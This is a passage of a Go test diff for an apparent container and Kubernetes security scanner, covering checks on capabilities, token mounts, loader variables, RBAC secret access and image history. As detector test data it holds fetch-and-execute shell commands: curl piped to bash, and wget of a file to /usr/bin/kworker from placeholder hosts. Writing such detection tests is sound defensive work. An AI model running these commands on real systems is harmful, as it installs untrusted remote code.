+		t.Errorf("getNodePostureThreats() found %d without kubelet configuration, want 0", len(tlist))
+	}
+}
+
+func TestCheckShm(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			HostConfig: &containertypes.HostConfig{
+				IpcMode: "shareable",
+				ShmSize: 4 << 30,
+				Tmpfs:   map[string]string{"/run": "rw,noexec", "/tmp": "size=64m"},
+			},
+		},
+		Mounts: []types.MountPoint{
+			{Type: "bind", Source: "/dev/shm", Destination: "/dev/shm", RW: true},
+			{Type: "bind", Source: "/data", Destination: "/data", RW: true},
+		},
+	}
+
+	ok, tlist := checkShm(config)
+	if !ok || len(tlist) != 3 {
+		t.Fatalf("checkShm() found %d, want 3", len(tlist))
+	}
+
+	want := []string{
+		"medium|source: /dev/shm | mode: shareable",
+		"low|size: 4GiB | mode: shareable",
+		"low|/run",
+	}
+	for i, th := range tlist {
+		if got := th.Severity + "|" + th.Value; got != want[i] {
+			t.Errorf("checkShm() [%d] = %s, want %s", i, got, want[i])
+		}
+	}
+
+	config = &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{HostConfig: &containertypes.HostConfig{ShmSize: 64 << 20}},
+	}
+	if ok, _ := checkShm(config); ok {
+		t.Errorf("checkShm() should pass the default shm")
+	}
+}
+
+func TestCheckWritableLayer(t *testing.T) {
+	size := int64(3 << 30)
+	config := &types.ContainerJSON{ContainerJSONBase: &types.ContainerJSONBase{SizeRw: &size}}
+
+	ok, tlist := checkWritableLayer(config, defaultWritableLayerLimit)
+	if !ok || len(tlist) != 1 {
+		t.Fatalf("checkWritableLayer() should flag the layer of 3GiB")
+	}
+	if tlist[0].Value != "size: 3GiB | limit: 1GiB" {
+		t.Errorf("checkWritableLayer() value = %s", tlist[0].Value)
+	}
+
+	if ok, _ := checkWritableLayer(config, 4<<30); ok {
+		t.Errorf("checkWritableLayer() should pass the layer under the limit")
+	}
+
+	config.SizeRw = nil
+	if ok, _ := checkWritableLayer(config, defaultWritableLayerLimit); ok {
+		t.Errorf("checkWritableLayer() should pass the container without size")
+	}
+}
+
+func TestCheckPodEnvFrom(t *testing.T) {
+	large := map[string]string{}
+	for i := 0; i < largeConfigMapKeys; i++ {
+		large[fmt.Sprintf("KEY_%d", i)] = "value"
+	}
+
+	secrets := &v1.SecretList{Items: []v1.Secret{{ObjectMeta: metav1.ObjectMeta{Name: "db"},
+		Data: map[string][]byte{"USER": []byte("app"), "PASSWORD": []byte("secret")}}}}
+	configMaps := &v1.ConfigMapList{Items: []v1.ConfigMap{
+		{ObjectMeta: metav1.ObjectMeta{Name: "settings"}, Data: large},
+		{ObjectMeta: metav1.ObjectMeta{Name: "small"}, Data: map[string]string{"LOG_LEVEL": "info"}},
+	}}
+
+	container := v1.Container{
+		Name: "app",
+		EnvFrom: []v1.EnvFromSource{
+			{SecretRef: &v1.SecretEnvSource{LocalObjectReference: v1.LocalObjectReference{Name: "db"}}},
+			{ConfigMapRef: &v1.ConfigMapEnvSource{LocalObjectReference: v1.LocalObjectReference{Name: "settings"}}},
+			{ConfigMapRef: &v1.ConfigMapEnvSource{LocalObjectReference: v1.LocalObjectReference{Name: "small"}}},
+		},
+	}
+
+	ok, tlist := checkPodEnvFrom(container, secrets, configMaps)
+	if !ok || len(tlist) != 2 {
+		t.Fatalf("checkPodEnvFrom() found %d, want 2", len(tlist))
+	}
+
+	if tlist[0].Value != "Secret: db (2 keys)" || tlist[0].Severity != "medium" {
+		t.Errorf("unexpected finding of Secret: %s %s", tlist[0].Value, tlist[0].Severity)
+	}
+
+	if tlist[1].Value != "ConfigMap: settings (20 keys)" || tlist[1].Severity != "low" {
+		t.Errorf("unexpected finding of ConfigMap: %s %s", tlist[1].Value, tlist[1].Severity)
+	}
+}
+
+func TestIncrementalScan(t *testing.T) {
+	location := filepath.Join(t.TempDir(), "incremental.json")
+
+	inc, err := openIncremental(location, "https://10.0.0.1:6443", "settings")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if _, ok := inc.reuse("Pod/default/web", "100"); ok {
+		t.Fatalf("reuse() should miss in the first scan")
+	}
+
+	inc.record("Pod/default/web", "100", []*threat{{Param: "sidecar name: web | privileged", Severity: "critical"}})
+	if err = inc.save(); err != nil {
+		t.Fatal(err)
+	}
+
+	inc, err = openIncremental(location, "https://10.0.0.1:6443", "settings")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tlist, ok := inc.reuse("Pod/default/web", "100")
+	if !ok || len(tlist) != 1 || tlist[0].Severity != "critical" || inc.unchanged != 1 {
+		t.Errorf("reuse() of the unchanged pod = %v, %v", tlist, ok)
+	}
+
+	if _, ok = inc.reuse("Pod/default/web", "101"); ok {
+		t.Errorf("reuse() should miss for the changed pod")
+	}
+
+	// State of the different settings is not reused
+	inc, err = openIncremental(location, "https://10.0.0.1:6443", "others")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if _, ok = inc.reuse("Pod/default/web", "100"); ok {
+		t.Errorf("reuse() should miss for the different settings")
+	}
+
+	// States of the clusters are kept in the same file
+	inc, err = openIncremental(location, "https://10.0.0.2:6443", "settings")
+	if err != nil {
+		t.Fatal(err)
+	}
+	inc.record("Pod/default/api", "7", []*threat{})
+	if err = inc.save(); err != nil {
+		t.Fatal(err)
+	}
+
+	inc, err = openIncremental(location, "https://10.0.0.1:6443", "settings")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, ok = inc.reuse("Pod/default/web", "100"); !ok {
+		t.Errorf("reuse() should hit after the scan of another cluster")
+	}
+}
+
+func TestDependencyVersion(t *testing.T) {
+	ks := &KScanner{}
+	version := ks.dependencyVersion("default")
+
+	ks.netRawKernel = true
+	if ks.dependencyVersion("default") == version {
+		t.Errorf("dependencyVersion() is unchanged by the kernel of nodes")
+	}
+}
+
+func TestGetHelmRelease(t *testing.T) {
+	pod := metav1.ObjectMeta{Labels: map[string]string{
+		"app.kubernetes.io/managed-by": "Helm",
+		"app.kubernetes.io/instance":   "web",
+		"helm.sh/chart":                "nginx-13.2.1",
+	}}
+	deploy := metav1.ObjectMeta{Annotations: map[string]string{"meta.helm.sh/release-name": "web-prod"}}
+
+	release, chart := getHelmRelease(pod, deploy)
+	if release != "web" || chart != "nginx-13.2.1" {
+		t.Errorf("getHelmRelease() = %s, %s", release, chart)
+	}
+
+	// Template without the labels of Helm is attributed by the annotation of Deployment
+	release, chart = getHelmRelease(metav1.ObjectMeta{}, deploy)
+	if release != "web-prod" || chart != "" {
+		t.Errorf("getHelmRelease() of annotation = %s, %s", release, chart)
+	}
+
+	release, chart = getHelmRelease(metav1.ObjectMeta{Labels: map[string]string{"app.kubernetes.io/instance": "web"}})
+	if release != "" || chart != "" {
+		t.Errorf("getHelmRelease() of non-Helm workload = %s, %s", release, chart)
+	}
+}
+
+type podCountCheck struct{}
+
+func (podCountCheck) Name() string { return "checkPodCount" }
+
+func (podCountCheck) Run(ctx context.Context, target interface{}) ([]*Threat, error) {
+	switch t := target.(type) {
+	case *types.ContainerJSON:
+		return []*Threat{{Param: "container", Value: t.Name, Severity: "low"}}, nil
+	case *NamespaceTarget:
+		return []*Threat{{Param: "namespace", Value: fmt.Sprintf("%s: %d", t.Namespace, len(t.Pods)), Severity: "low"}}, nil
+	}
+
+	return nil, nil
+}
+
+func TestRegisterCheck(t *testing.T) {
+	defer func(docker []dockerCheck, namespace []namespaceCheck) {
+		dockerChecks, namespaceChecks = docker, namespace
+	}(dockerChecks, namespaceChecks)
+
+	if err := RegisterCheck(podCountCheck{}); err != nil {
+		t.Fatalf("RegisterCheck() error = %v", err)
+	}
+	if err := RegisterCheck(podCountCheck{}); err == nil {
+		t.Errorf("RegisterCheck() should reject the duplicate name")
+	}
+
+	ch := dockerChecks[len(dockerChecks)-1]
+	ok, tlist := ch.run(context.Background(), &Scanner{}, &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{ID: "0123456789abcdef", Name: "/web"}})
+	if !ok || len(tlist) != 1 || tlist[0].Value != "/web" {
+		t.Errorf("custom docker check found %v", tlist)
+	}
+
+	ks := &KScanner{cache: newStaticListCache()}
+	ks.cache.lists["pods/default"] = &v1.PodList{Items: []v1.Pod{{}, {}}}
+
+	if !namespaceChecks[len(namespaceChecks)-1].skipWhiteList {
+		t.Errorf("custom namespace check should skip the white list like the built-in checks")
+	}
+
+	err := namespaceChecks[len(namespaceChecks)-1].run(context.Background(), ks, "default")
+	if err != nil {
+		t.Fatalf("custom namespace check error = %v", err)
+	}
+	if len(ks.VulnConfigures) != 1 || ks.VulnConfigures[0].Value != "default: 2" ||
+		ks.VulnConfigures[0].Type != "checkPodCount" {
+		t.Errorf("custom namespace check found %v", ks.VulnConfigures)
+	}
+}
+
+func TestGetSecretAccessThreats(t *testing.T) {
+	rules := []rv1.PolicyRule{
+		{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list"}},
+		{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"watch"}, ResourceNames: []string{"tls"}},
+		{APIGroups: []string{"*"}, Resources: []string{"secrets", "configmaps"}, Verbs: []string{"*"}},
+	}
+	if verbs := getSecretReadVerbs(rules[:2]); !reflect.DeepEqual(verbs, []string{"get", "list"}) {
+		t.Errorf("getSecretReadVerbs() = %v, want get, list", verbs)
+	}
+	if verbs := getSecretReadVerbs([]rv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"},
+		Verbs: []string{"*"}}}); len(verbs) > 0 {
+		t.Errorf("getSecretReadVerbs() = %v, the wildcard resources are left to the RBAC checks", verbs)
+	}
+
+	ref := rv1.RoleRef{Kind: "ClusterRole", Name: "secret-reader"}
+	subjects := []rv1.Subject{
+		{Kind: "ServiceAccount", Name: "backup", Namespace: "ops"},
+		{Kind: "ServiceAccount", Name: "controller", Namespace: "kube-system"},
+		{Kind: "Group", Name: "system:masters"},
+	}
+
+	tlist := getSecretAccessThreats("backup-secrets", "", ref, subjects, rules)
+	if len(tlist) != 1 || tlist[0].Severity != "critical" ||
+		tlist[0].Value != "verbs: get, list, watch | resources: secrets" ||
+		!strings.HasSuffix(tlist[0].Param, "subject name: backup | scope: cluster-wide") {
+		t.Fatalf("getSecretAccessThreats() = %v", tlist)
+	}
+
+	tlist = getSecretAccessThreats("backup-secrets", "ops", ref, subjects[:1], rules[:1])
+	if len(tlist) != 1 || tlist[0].Severity != "medium" || !strings.HasSuffix(tlist[0].Param, "scope: namespaced: ops") {
+		t.Errorf("getSecretAccessThreats() of RoleBinding = %v", tlist)
+	}
+
+	if tlist := getSecretAccessThreats("system:controller:expand-controller", "",
+		ref, subjects[:1], rules); len(tlist) > 0 {
+		t.Errorf("getSecretAccessThreats() should skip the bootstrapped bindings")
+	}
+}
+
+func TestCheckLoaderEnv(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{},
+		Config: &containertypes.Config{Env: []string{
+			"LD_PRELOAD=/data/libhook.so",
+			"LD_LIBRARY_PATH=/usr/local/lib:/tmp/lib",
+			"LD_AUDIT=/usr/lib/libaudit.so",
+			"PATH=/usr/bin",
+		}},
+		Mounts: []types.MountPoint{{Type: "volume", Destination: "/data", RW: true}},
+	}
+
+	ok, tlist := checkLoaderEnv(config)
+	if !ok || len(tlist) != 3 {
+		t.Fatalf("checkLoaderEnv() found %d, want 3", len(tlist))
+	}
+
+	want := []string{"high", "medium", "medium"}
+	for i, th := range tlist {
+		if th.Severity != want[i] {
+			t.Errorf("checkLoaderEnv() %s severity = %s, want %s", th.Value, th.Severity, want[i])
+		}
+	}
+
+	container := v1.Container{
+		Name:         "app",
+		Env:          []v1.EnvVar{{Name: "LD_PRELOAD", Value: "/cache/lib.so"}},
+		VolumeMounts: []v1.VolumeMount{{Name: "cache", MountPath: "/cache", ReadOnly: true}},
+	}
+	ok, tlist = checkPodLoaderEnv(container)
+	if !ok || tlist[0].Severity != "medium" || tlist[0].Param != "sidecar name: app | env" {
+		t.Errorf("checkPodLoaderEnv() = %v", tlist)
+	}
+}
+
+func TestCheckMainProcess(t *testing.T) {
+	tests := []struct {
+		path     string
+		args     []string
+		detected string
+	}{
+		{path: "/bin/bash", detected: "bash"},
+		{path: "/bin/sh", args: []string{"-l"}, detected: "sh"},
+		{path: "/bin/sh", args: []string{"-c", "apt-get update && apt-get install -y nmap"}, detected: "apt-get"},
+		{path: "/bin/sh", args: []string{"-c", "curl -s http://example.com/x.sh|bash"}, detected: "curl"},
+		{path: "sleep", args: []string{"infinity"}, detected: "sleep"},
+		{path: "/bin/sh", args: []string{"-c", "exec nginx -g 'daemon off;'"}},
+		{path: "/docker-entrypoint.sh", args: []string{"nginx"}},
+		{path: "/bin/sh", args: []string{"/entrypoint.sh"}},
+	}
+
+	for _, tt := range tests {
+		config := &types.ContainerJSON{ContainerJSONBase: &types.ContainerJSONBase{Path: tt.path, Args: tt.args}}
+
+		ok, tlist := checkMainProcess(config, defaultDebugCommands)
+		if tt.detected == "" {
+			if ok {
+				t.Errorf("checkMainProcess(%s %v) = %s, want none", tt.path, tt.args, tlist[0].Value)
+			}
+			continue
+		}
+
+		if !ok || !strings.HasPrefix(tlist[0].Value, "detected: "+tt.detected+" |") {
+			t.Errorf("checkMainProcess(%s %v) = %v, want %s", tt.path, tt.args, tlist, tt.detected)
+		}
+	}
+
+	config := &types.ContainerJSON{ContainerJSONBase: &types.ContainerJSONBase{Path: "socat"}}
+	if ok, _ := checkMainProcess(config, []string{"socat"}); !ok {
+		t.Errorf("checkMainProcess() should flag the configured command")
+	}
+}
+
+func TestCheckMissingMounts(t *testing.T) {
+	dir := t.TempDir()
+	missing := filepath.Join(dir, "cofnig")
+
+	config := &types.ContainerJSON{Mounts: []types.MountPoint{
+		{Type: "bind", Source: dir, Destination: "/data"},
+		{Type: "bind", Source: missing, Destination: "/etc/app"},
+		{Type: "volume", Name: "cache", Source: "/var/lib/docker/volumes/missing/_data", Destination: "/cache"},
+	}}
+
+	ok, tlist := checkMissingMounts(config)
+	if !ok || len(tlist) != 1 {
+		t.Fatalf("checkMissingMounts() found %d, want 1", len(tlist))
+	}
+
+	if want := fmt.Sprintf("missing source: %s | destination: /etc/app", missing); tlist[0].Value != want {
+		t.Errorf("checkMissingMounts() value = %s, want %s", tlist[0].Value, want)
+	}
+}
+
+func TestCheckImageUser(t *testing.T) {
+	tests := []struct {
+		name    string
+		id      string
+		config  *containertypes.Config
+		history []string
+		want    bool
+	}{
+		{name: "unset user", config: &containertypes.Config{}, want: true},
+		{name: "short id", id: "sha256:0123", config: &containertypes.Config{}, want: true},
+		{name: "root uid", config: &containertypes.Config{User: "0:0"}, want: true},
+		{name: "non-root user", config: &containertypes.Config{User: "app"}},
+		{name: "user of history", history: []string{"/bin/sh -c #(nop)  CMD [\"app\"]", "/bin/sh -c #(nop)  USER root"}, want: true},
+		{name: "last user of history", history: []string{"USER 1000", "USER root"}},
+		{name: "unknown"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.id == "" {
+				tt.id = "sha256:0123456789abcdef"
+			}
+
+			img := &_image.ImageInfo{
+				Summary: types.ImageSummary{ID: tt.id, RepoTags: []string{"app:1.0"}},
+				Config:  tt.config,
+			}
+			for _, h := range tt.history {
+				img.History = append(img.History, imagetypes.HistoryResponseItem{CreatedBy: h})
+			}
+
+			tlist := checkImageUser(img)
+			if got := len(tlist) > 0; got != tt.want {
+				t.Errorf("checkImageUser() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckPodRootUser(t *testing.T) {
+	id := func(i int64) *int64 { return &i }
+	yes := true
+
+	tests := []struct {
+		name      string
+		image     string
+		podSC     *v1.PodSecurityContext
+		containSC *v1.SecurityContext
+		want      string
+	}{
+		{name: "root image", image: "root:1.0", want: "low"},
+		{name: "non-root image", image: "app:1.0"},
+		{name: "unknown image", image: "remote:1.0", want: "low"},
+		{name: "runAsNonRoot", image: "root:1.0", podSC: &v1.PodSecurityContext{RunAsNonRoot: &yes}},
+		{name: "root uid", image: "app:1.0", containSC: &v1.SecurityContext{RunAsUser: id(0)}, want: "medium"},
+		{name: "container override", image: "root:1.0", podSC: &v1.PodSecurityContext{RunAsUser: id(0)},
+			containSC: &v1.SecurityContext{RunAsUser: id(1000)}},
+	}
+
+	imageUsers := map[string]string{"root:1.0": "", "app:1.0": "app"}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			container := v1.Container{Name: "app", Image: tt.image, SecurityContext: tt.containSC}
+			podSpec := v1.PodSpec{SecurityContext: tt.podSC, Containers: []v1.Container{container}}
+
+			got := ""
+			if ok, tlist := checkPodRootUser(container, podSpec, imageUsers); ok {
+				got = tlist[0].Severity
+			}
+
+			if got != tt.want {
+				t.Errorf("checkPodRootUser() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckAgentPrivilege(t *testing.T) {
+	privileged := true
+
+	daemonSet := func(image string, sc *v1.SecurityContext, mounts map[string]bool) appsv1.DaemonSet {
+		da := appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "agent", Namespace: "logging"}}
+		c := v1.Container{Name: "agent", Image: image, SecurityContext: sc}
+
+		i := 0
+		for p, ro := range mounts {
+			name := fmt.Sprintf("vol%d", i)
+			i++
+			da.Spec.Template.Spec.Volumes = append(da.Spec.Template.Spec.Volumes, v1.Volume{
+				Name: name, VolumeSource: v1.VolumeSource{HostPath: &v1.HostPathVolumeSource{Path: p}}})
+			c.VolumeMounts = append(c.VolumeMounts, v1.VolumeMount{Name: name, MountPath: p, ReadOnly: ro})
+		}
+
+		da.Spec.Template.Spec.Containers = []v1.Container{c}
+		return da
+	}
+
+	tests := []struct {
+		name string
+		da   appsv1.DaemonSet
+		want string
+	}{
+		{name: "least privilege", da: daemonSet("fluent/fluent-bit:2.1", nil,
+			map[string]bool{"/var/log": true, "/var/fluent-bit/state": false})},
+		{name: "writable logs", da: daemonSet("fluent/fluentd:v1.16", nil,
+			map[string]bool{"/var/log": false}), want: "medium"},
+		{name: "host root", da: daemonSet("docker.elastic.co/beats/filebeat:8.9.0", nil,
+			map[string]bool{"/": true}), want: "high"},
+		{name: "privileged", da: daemonSet("grafana/promtail:2.8.0",
+			&v1.SecurityContext{Privileged: &privileged}, nil), want: "high"},
+		{name: "capabilities", da: daemonSet("prom/node-exporter:v1.6.0",
+			&v1.SecurityContext{Capabilities: &v1.Capabilities{Add: []v1.Capability{"SYS_ADMIN"}}},
+			map[string]bool{"/": true}), want: "medium"},
+		{name: "not an agent", da: daemonSet("nginx:1.25", &v1.SecurityContext{Privileged: &privileged}, nil)},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := ""
+			if tlist := checkAgentPrivilege(tt.da); len(tlist) > 0 {
+				got = tlist[0].Severity
+			}
+
+			if got != tt.want {
+				t.Errorf("checkAgentPrivilege() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckDACCapabilities(t *testing.T) {
+	tests := []struct {
+		name       string
+		capAdd     []string
+		privileged bool
+		mounts     []types.MountPoint
+		want       string
+	}{
+		{name: "read search", capAdd: []string{"DAC_READ_SEARCH"}},
+		{name: "read search with bind mount", capAdd: []string{"CAP_DAC_READ_SEARCH"},
+			mounts: []types.MountPoint{{Type: "bind", Source: "/etc", RW: false}}, want: "high"},
+		{name: "with bind mount", capAdd: []string{"CAP_DAC_OVERRIDE"},
+			mounts: []types.MountPoint{{Type: "bind", Source: "/srv/data", RW: true}}, want: "high"},
+		{name: "volume only", capAdd: []string{"DAC_OVERRIDE"},
+			mounts: []types.MountPoint{{Type: "volume", Source: "/var/lib/docker/volumes/data"}}, want: "medium"},
+		{name: "default", mounts: []types.MountPoint{{Type: "bind", Source: "/srv/data"}}},
+		{name: "privileged", capAdd: []string{"DAC_READ_SEARCH"}, privileged: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config := &types.ContainerJSON{
+				ContainerJSONBase: &types.ContainerJSONBase{
+					HostConfig: &containertypes.HostConfig{CapAdd: tt.capAdd, Privileged: tt.privileged},
+				},
+				Mounts: tt.mounts,
+			}
+
+			got := ""
+			if ok, tlist := checkDACCapabilities(config); ok {
+				got = tlist[0].Severity
+			}
+
+			if got != tt.want {
+				t.Errorf("checkDACCapabilities() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckPrivilegedDACReadSearch(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			HostConfig: &containertypes.HostConfig{CapAdd: []string{"CAP_DAC_READ_SEARCH", "DAC_OVERRIDE"}},
+		},
+	}
+
+	vuln, tlist := checkPrivileged(config)
+	if !vuln {
+		t.Fatalf("checkPrivileged() = false, want the file leakage of CAP_DAC_READ_SEARCH")
+	}
+
+	// DAC capabilities are not reported as the dangerous capabilities of container escape
+	if len(tlist) != 1 || tlist[0].Value != "CAP_DAC_READ_SEARCH" || tlist[0].Severity != "medium" {
+		t.Errorf("checkPrivileged() = %v, want the file leakage of CAP_DAC_READ_SEARCH", tlist)
+	}
+}
+
+func TestCheckPodDACCapabilities(t *testing.T) {
+	volumes := []v1.Volume{
+		{Name: "logs", VolumeSource: v1.VolumeSource{HostPath: &v1.HostPathVolumeSource{Path: "/var/log"}}},
+		{Name: "cache", VolumeSource: v1.VolumeSource{EmptyDir: &v1.EmptyDirVolumeSource{}}},
+	}
+
+	tests := []struct {
+		name   string
+		add    []v1.Capability
+		mounts []v1.VolumeMount
+		want   string
+	}{
+		{name: "added", add: []v1.Capability{"DAC_OVERRIDE"}, want: "medium"},
+		{name: "with hostPath", add: []v1.Capability{"DAC_READ_SEARCH"},
+			mounts: []v1.VolumeMount{{Name: "logs", ReadOnly: true}}, want: "high"},
+		{name: "emptyDir only", add: []v1.Capability{"DAC_READ_SEARCH"},
+			mounts: []v1.VolumeMount{{Name: "cache"}}, want: "medium"},
+		{name: "not added", add: []v1.Capability{"NET_BIND_SERVICE"}, mounts: []v1.VolumeMount{{Name: "logs"}}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			container := v1.Container{Name: "app", VolumeMounts: tt.mounts,
+				SecurityContext: &v1.SecurityContext{Capabilities: &v1.Capabilities{Add: tt.add}}}
+
+			got := ""
+			if ok, tlist := checkPodDACCapabilities(container, volumes); ok {
+				got = tlist[0].Severity
+			}
+
+			if got != tt.want {
+				t.Errorf("checkPodDACCapabilities() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestGetMissingPermissions(t *testing.T) {
+	permissions := []neededPermission{
+		{verb: "list", resource: "pods"},
+		{verb: "list", resource: "secrets"},
+		{verb: "list", resource: "clusterroles", group: "rbac.authorization.k8s.io"},
+		{verb: "list", resource: "cronjobs", group: "batch"},
+	}
+
+	denied := map[string]bool{"list secrets": true, "list clusterroles.rbac.authorization.k8s.io": true}
+	review := func(p neededPermission) (bool, error) {
+		if p.resource == "cronjobs" {
+			return false, fmt.Errorf("the server could not find the requested resource")
+		}
+		return !denied[p.String()], nil
+	}
+
+	missing, err := getMissingPermissions(permissions, review)
+	if err != nil {
+		t.Fatalf("getMissingPermissions() error: %v", err)
+	}
+
+	want := []string{"list secrets", "list clusterroles.rbac.authorization.k8s.io"}
+	if !reflect.DeepEqual(missing, want) {
+		t.Errorf("getMissingPermissions() = %v, want %v", missing, want)
+	}
+
+	// Review is not available at all
+	_, err = getMissingPermissions(permissions, func(p neededPermission) (bool, error) {
+		return false, fmt.Errorf("forbidden")
+	})
+	if err == nil {
+		t.Errorf("getMissingPermissions() expected the error of review")
+	}
+}
+
+func TestPermissionsOf(t *testing.T) {
+	ctx := context.WithValue(context.Background(), "disable", []string{"checkNodePosture", "checkCNI"})
+	permissions := permissionsOf(ctx, []string{"default", "prod"})
+
+	got := map[string]bool{}
+	for _, p := range permissions {
+		got[p.String()] = true
+	}
+
+	for _, want := range []string{
+		"list nodes",
+		"list secrets -n default",
+		"list secrets -n prod",
+		"create pods --subresource=exec -n prod",
+		"get replicasets.apps -n default",
+	} {
+		if !got[want] {
+			t.Errorf("permissionsOf() missing %q", want)
+		}
+	}
+
+	for _, unwanted := range []string{
+		"list secrets",
+		"get nodes --subresource=proxy",
+		"get deployments.apps -n istio-system",
+	} {
+		if got[unwanted] {
+			t.Errorf("permissionsOf() unexpectedly includes %q", unwanted)
+		}
+	}
+
+	// All the namespaces are reviewed at once if none is selected
+	got = map[string]bool{}
+	for _, p := range permissionsOf(context.Background(), nil) {
+		got[p.String()] = true
+	}
+
+	for _, want := range []string{"list secrets", "get nodes --subresource=proxy"} {
+		if !got[want] {
+			t.Errorf("permissionsOf() missing %q", want)
+		}
+	}
+}
+
+func TestCheckPodTokenMount(t *testing.T) {
+	volumes := []v1.Volume{
+		{Name: "token", VolumeSource: v1.VolumeSource{Projected: &v1.ProjectedVolumeSource{
+			Sources: []v1.VolumeProjection{{ServiceAccountToken: &v1.ServiceAccountTokenProjection{Path: "token"}}}}}},
+		{Name: "scratch", VolumeSource: v1.VolumeSource{EmptyDir: &v1.EmptyDirVolumeSource{}}},
+		{Name: "ca", VolumeSource: v1.VolumeSource{ConfigMap: &v1.ConfigMapVolumeSource{}}},
+		{Name: "legacy", VolumeSource: v1.VolumeSource{Secret: &v1.SecretVolumeSource{SecretName: "default-token-x7k2p"}}},
+		{Name: "app-secret", VolumeSource: v1.VolumeSource{Secret: &v1.SecretVolumeSource{SecretName: "app"}}},
+	}
+
+	tests := []struct {
+		name  string
+		mount v1.VolumeMount
+		want  string
+	}{
+		{name: "read-only token", mount: v1.VolumeMount{Name: "kube-api-access-x2v9k",
+			MountPath: "/var/run/secrets/kubernetes.io/serviceaccount", ReadOnly: true}},
+		{name: "writable token", mount: v1.VolumeMount{Name: "token",
+			MountPath: "/var/run/secrets/kubernetes.io/serviceaccount"}, want: "low"},
+		{name: "shadowed by emptyDir", mount: v1.VolumeMount{Name: "scratch",
+			MountPath: "/run/secrets/kubernetes.io/serviceaccount/"}, want: "high"},
+		{name: "overlaid by configMap", mount: v1.VolumeMount{Name: "ca",
+			MountPath: "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", SubPath: "ca.crt"}, want: "medium"},
+		{name: "other path", mount: v1.VolumeMount{Name: "scratch", MountPath: "/var/run/secrets/app"}},
+		{name: "read-only legacy token", mount: v1.VolumeMount{Name: "legacy",
+			MountPath: "/var/run/secrets/kubernetes.io/serviceaccount", ReadOnly: true}},
+		{name: "injected legacy token", mount: v1.VolumeMount{Name: "default-token-x7k2p",
+			MountPath: "/var/run/secrets/kubernetes.io/serviceaccount", ReadOnly: true}},
+		{name: "shadowed by secret", mount: v1.VolumeMount{Name: "app-secret",
+			MountPath: "/var/run/secrets/kubernetes.io/serviceaccount", ReadOnly: true}, want: "medium"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			container := v1.Container{Name: "app", VolumeMounts: []v1.VolumeMount{tt.mount}}
+
+			got := ""
+			if ok, tlist := checkPodTokenMount(container, volumes); ok {
+				got = tlist[0].Severity
+			}
+
+			if got != tt.want {
+				t.Errorf("checkPodTokenMount() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckLateLayers(t *testing.T) {
+	tests := []struct {
+		name    string
+		history []string
+		want    []string
+	}{
+		{name: "clean", history: []string{
+			`/bin/sh -c #(nop)  CMD ["nginx"]`,
+			`/bin/sh -c apt-get update && apt-get install -y nginx`,
+			`/bin/sh -c #(nop) ADD file:0123 in / `,
+		}},
+		{name: "late layers", history: []string{
+			`RUN /bin/sh -c wget -q http://198.51.100.7/x -O /usr/bin/kworker # buildkit`,
+			`COPY app /app # buildkit`,
+			`CMD ["/app"]`,
+			`RUN /bin/sh -c make # buildkit`,
+		}, want: []string{"medium", "warning"}},
+		{name: "pipe to shell", history: []string{
+			`ENTRYPOINT ["/init"]`,
+			`RUN /bin/sh -c curl -fsSL https://get.example.com/install.sh | sh # buildkit`,
+			``,
+		}, want: []string{"medium"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			img := &_image.ImageInfo{Summary: types.ImageSummary{ID: "sha256:0123456789abcdef", RepoTags: []string{"app:1.0"}}}
+			for _, h := range tt.history {
+				img.History = append(img.History, imagetypes.HistoryResponseItem{CreatedBy: h})
+			}
+
+			got := []string{}
+			for _, th := range checkLateLayers(img) {
+				got = append(got, th.Severity)
+			}
+
+			if len(got) != len(tt.want) || (len(got) > 0 && !reflect.DeepEqual(got, tt.want)) {
+				t.Errorf("checkLateLayers() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSortStable(t *testing.T) {
+	threats := []*threat{
+		{Param: "kernel version", Value: "5.4.0", Severity: "critical", Describe: "Dirty Pipe"},
+		{Param: "kernel version", Value: "5.4.0", Severity: "critical", Describe: "Dirty Cow"},
+		{Param: "capabilities", Type: "capabilities.add", Value: "NET_ADMIN", Severity: "critical"},
+		{Param: "Privileged", Value: "true", Severity: "critical"},
+		{Param: "Image Name", Value: "nginx:latest", Severity: "low"},
+		{Param: "Image Name", Value: "redis:latest", Severity: "low"},
+		{Param: "SecurityOpt", Value: "no-new-privileges: false", Severity: "medium"},
+	}
+
+	containers := []*container{
+		{ContainerName: "web", Namepsace: "prod"},
+		{ContainerName: "api", Namepsace: "prod"},
+		{ContainerName: "web", Namepsace: "dev"},
+		{ContainerName: "nginx", ContainerID: "bbbbbbbbbbbb"},
+		{ContainerName: "nginx", ContainerID: "aaaaaaaaaaaa"},
+	}
+
+	encode := func(ths []*threat, cons []*container) string {
